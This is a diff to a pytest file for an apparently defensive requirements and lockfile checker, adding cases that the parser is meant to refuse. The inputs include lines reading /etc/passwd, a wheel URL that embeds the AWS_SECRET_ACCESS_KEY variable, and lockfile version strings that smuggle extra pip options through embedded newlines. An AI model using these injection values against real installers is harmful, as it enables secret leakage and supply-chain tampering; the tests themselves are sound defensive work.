@@ -7,8 +7,16 @@ from collections.abc import Mapping
 
 import pytest
 
+from fossml.errors import FossmlError
 from fossml.types import Evidence
-from fossml.verify.environment.wanted import Wanted, checked_indexes, parse_exported, wanted
+from fossml.verify.environment.wanted import (
+    Wanted,
+    as_line,
+    checked_indexes,
+    parse_exported,
+    text_of,
+    wanted,
+)
 
 BUILD = "[build-system]\nrequires = []\n"
 
@@ -89,6 +97,8 @@ def test_hashes_stay() -> None:
         "-r /etc/passwd",
         "-r ../../etc/passwd",
         "-c https://example.org/pins.txt",
+        "b @ https://example.org/${AWS_SECRET_ACCESS_KEY}/b-1-py3-none-any.whl",
+        "b>=1 --config-settings=x=y",
     ],
 )
 def test_what_leads_elsewhere_or_runs_code_is_refused_and_named(line: str) -> None:
@@ -96,6 +106,26 @@ def test_what_leads_elsewhere_or_runs_code_is_refused_and_named(line: str) -> No
     assert specs(asked) == ["six"]
     assert asked.indexes == ()
     assert refused(asked) == [("ENV004", "requirements.txt", 2)]
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("poetry.lock", '[[package]]\nname = "evil"\nversion = "1\\n--no-index\\n--find-links /x"\n'),
+        ("Pipfile.lock", '{"default": {"evil": {"version": "==1\\n--find-links /x"}}, "develop": {}}'),
+        ("pylock.toml", 'lock-version = "1.0"\n[[packages]]\nname = "evil"\nversion = "1\\n--no-binary evil"\n'),
+        ("pyproject.toml", '[tool.poetry.dependencies]\nevil = ">=1\\n--no-index\\n--find-links /x"\n'),
+    ],
+)
+def test_no_line_is_smuggled_into_what_the_installer_reads(name: str, text: str) -> None:
+    asked = ask({name: text})
+    assert all("evil" not in one for one in specs(asked))
+    assert any(code == "ENV004" for code, _, _ in refused(asked))
+
+
+def test_an_installer_is_given_no_line_that_reads_as_several() -> None:
+    with pytest.raises(FossmlError, match="more to the installer"):
+        text_of([as_line("evil==1\n--find-links /x", "requirements.txt", 1)])
 
 
 def test_a_file_of_the_machine_that_pip_freeze_names_is_taken_by_its_name() -> None:
